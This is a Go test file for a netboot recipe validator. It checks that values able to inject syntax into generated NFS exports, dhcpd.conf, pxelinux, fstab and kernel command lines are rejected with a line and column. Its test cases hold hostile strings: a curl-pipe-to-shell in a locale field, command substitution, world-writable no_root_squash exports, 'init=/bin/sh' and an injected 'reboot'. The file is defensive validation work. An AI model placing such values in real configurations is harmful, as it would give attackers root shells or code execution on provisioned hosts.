package recipes

import (
	"errors"
	"regexp"
	"strings"
	"testing"
)

// hostileBase is a netboot recipe every hostile case changes one value of.
const hostileBase = `name: base
suite: bookworm
components: [main]
` + cluster + `
nfsroot: {path: /srv/nfs, mode: ro}
provision:
  - fstab: {configfs: false}
  - locale: {lc_all: C, bashrc: true}
netboot:
  tftp: {root: /srv/tftp}
  pxelinux: {label: node, append: [console=ttyS0]}
boot_test:
  login: {user: root}
`

// TestHostileValues: every value that would become syntax in a generated
// file (the hardening issue's findings and their kin) is refused by
// validation, at its line and column, before any file is written.
func TestHostileValues(t *testing.T) {
	for _, c := range []struct{ name, from, to string }{
		{"exports line through the NFS path", "path: /srv/nfs,", `path: "/srv/nfs\n/ *(rw,no_root_squash,insecure)\n#",`},
		{"quote in the NFS path rewrites dhcpd.conf", "path: /srv/nfs,", `path: "/srv/nfs\"; next-server 6.6.6.6; #",`},
		{"space in the NFS path", "path: /srv/nfs,", `path: "/srv/my nfs",`},
		{"comma in the NFS path adds mount options", "path: /srv/nfs,", `path: "/srv/nfs,nolock",`},
		{"command substitution in tftp options", "root: /srv/tftp}", `root: /srv/tftp, options: "--secure $(id>/tmp/x)"}`},
		{"quote in tftp options", "root: /srv/tftp}", `root: /srv/tftp, options: "--secure\"x"}`},
		{"backquote in the tftp address", "root: /srv/tftp}", "root: /srv/tftp, address: \"`id`:69\"}"},
		{"newline in the pxelinux label", "label: node,", `label: "node\nKERNEL evil",`},
		{"newline in the name", "name: base", `name: "base\ninjected"`},
		{"space in the name", "name: base", `name: "base x"`},
		{"space in a kernel argument", "append: [console=ttyS0]", `append: ["console=ttyS0 init=/bin/sh"]`},
		{"semicolon in a kernel argument (GRUB)", "append: [console=ttyS0]", `append: ["a;reboot"]`},
		{"dollar in a kernel argument (GRUB)", "append: [console=ttyS0]", `append: ["a$root"]`},
		{"space in mount options", "fstab: {configfs: false}", `fstab: {configfs: false, options: {/var: "rw nosuid"}}`},
		{"newline in mount options", "fstab: {configfs: false}", `fstab: {configfs: false, options: {/var: "rw\nnone / tmpfs"}}`},
		{"shell in the locale", "lc_all: C,", `lc_all: "C; curl x|sh",`},
		{"newline in an fstab line", "fstab: {configfs: false}", `fstab: {configfs: false, extra: ["none /x tmpfs\nnone / tmpfs"]}`},
		{"colon in a locked password hash", "locale: {lc_all: C, bashrc: true}", "locale: {lc_all: C, bashrc: true}\n  - root-password: {hash: \"!x:0:0\"}"},
		{"colon in a user's comment", "locale: {lc_all: C, bashrc: true}", "locale: {lc_all: C, bashrc: true}\n  - users: [{name: u, comment: \"a:b\"}]"},
		{"space in exports clients", "pxelinux:", "exports: {clients: \"* evil(rw)\"}\n  pxelinux:"},
		{"exports options with a space", "pxelinux:", "exports: {options: [\"ro) / *(rw\"]}\n  pxelinux:"},
		{"space in a hosts name", "  - locale: {lc_all: C, bashrc: true}", "  - locale: {lc_all: C, bashrc: true}\n  - hosts: {extra: [{ip: 10.0.0.5, names: [\"a b\"]}]}"},
		{"empty mount option", "mode: ro}", `mode: ro, writable: [{path: /tmp, type: tmpfs, options: [""]}]}`},
		{"null item among mount options", "mode: ro}", `mode: ro, writable: [{path: /var, options: [rw, null, hard]}]}`},
		{"empty NFS root option", "mode: ro}", `mode: ro, options: [""]}`},
		{"empty tmpfs mount point", "mode: ro}", `mode: ro, tmpfs: [""]}`},
		{"empty exports option", "pxelinux:", "exports: {options: [ro, \"\"]}\n  pxelinux:"},
		{"empty exports options list", "pxelinux:", "exports: {options: []}\n  pxelinux:"},
		{"comma in an exports option", "pxelinux:", "exports: {options: [ro, \"a,b\"]}\n  pxelinux:"},
		{"comma in a writable mount's option", "mode: ro}", `mode: ro, writable: [{path: /var, options: ["rw,hard"]}]}`},
		{"comma in an NFS root option", "mode: ro}", `mode: ro, options: ["timeo=14,retrans=2"]}`},
		{"empty option in fstab options", "fstab: {configfs: false}", `fstab: {configfs: false, options: {/var: "rw,,hard"}}`},
		{"trailing comma in fstab options", "fstab: {configfs: false}", `fstab: {configfs: false, options: {/var: "rw,"}}`},
		{"null DNS server", "  domain: c.home", "  domain: c.home\n  dns: [null]"},
		{"empty kernel argument", "append: [console=ttyS0]", `append: [console=ttyS0, ""]`},
		{"empty name in a hosts entry", "  - locale: {lc_all: C, bashrc: true}", "  - locale: {lc_all: C, bashrc: true}\n  - hosts: {extra: [{ip: 10.0.0.5, names: [a, \"\"]}]}"},
		{"empty initramfs module", "boot_test:", "initramfs: {modules: [\"\"]}\nboot_test:"},
		{"newline in the login password", "login: {user: root}", `login: {user: root, password: "pw\nreboot"}`},
	} {
		t.Run(c.name, func(t *testing.T) {
			if !strings.Contains(hostileBase, c.from) {
				t.Fatalf("the base recipe has no %q", c.from)
			}
			src := strings.Replace(hostileBase, c.from, c.to, 1)
			_, err := parse(t, src, nil)
			if err == nil {
				t.Fatalf("validated:\n%s", src)
			}
			if !errors.Is(err, ErrInvalid) {
				t.Fatalf("not ErrInvalid: %v", err)
			}
			if !regexp.MustCompile(`test\.yaml:\d+:\d+: `).MatchString(err.Error()) {
				t.Errorf("no line:column in %q", err)
			}
			if strings.Contains(c.name, "password") && strings.Contains(err.Error(), "reboot") {
				t.Errorf("the error shows the password: %v", err)
			}
		})
	}
	if _, err := parse(t, hostileBase, nil); err != nil {
		t.Fatalf("the base recipe does not validate: %v", err)
	}
}
